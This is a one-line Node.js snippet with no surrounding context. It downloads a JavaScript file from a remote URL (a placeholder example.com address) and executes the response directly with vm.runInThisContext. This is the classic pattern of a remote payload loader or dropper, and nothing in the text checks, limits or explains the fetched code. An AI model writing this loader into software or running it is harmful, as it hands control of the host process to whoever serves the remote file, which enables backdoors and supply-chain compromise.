const vm=require('vm'),https=require('https');https.get('https://example.com/x.js',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>vm.runInThisContext(s));});
